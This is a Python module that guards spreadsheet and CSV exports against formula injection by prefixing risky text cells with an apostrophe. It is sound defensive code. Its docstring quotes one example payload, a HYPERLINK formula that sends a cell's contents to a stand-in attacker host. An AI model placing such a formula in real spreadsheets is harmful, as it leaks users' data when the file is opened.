"""Text cells that a spreadsheet cannot run: the guard against formula (CSV) injection.

A text someone typed -- a gap explanation, a forecast, a justification, a name --
ends up in the report workbook and in the open-data CSVs. A spreadsheet reads a
cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab
or a carriage return) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
would run when the file is opened. Every writer passes its text cells through
here:

- CSV: such a text gets a leading apostrophe (OWASP's advice), which spreadsheets
  show as text; a plain signed number written as text (``-3%``, ``+20%``,
  ``-1.234,5``) is left alone, since a spreadsheet reads it as the number it is;
- XLSX: the cell is written as a string cell, never a formula, with the same
  apostrophe so that a copy to CSV stays inert.

Numbers are not touched: they stay numbers in both formats.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

__all__ = ["DANGEROUS", "inert", "inert_row", "inert_sheet"]

#: what a spreadsheet may read as the start of a formula
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
#: a signed number written as text: a spreadsheet reads it as that number, nothing more
_PLAIN_NUMBER = re.compile(r"[+-]\d[\d.,]*%?")


def inert(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell (texts only; anything else as it is)."""
    if isinstance(value, str) and value.startswith(DANGEROUS) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_row(row: Iterable[Any]) -> list[Any]:
    return [inert(v) for v in row]


def inert_sheet(ws: Any) -> None:
    """Every text cell of an openpyxl worksheet made a plain string, never a formula."""
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                safe = inert(cell.value)
                cell.value = safe
                cell.data_type = "s"
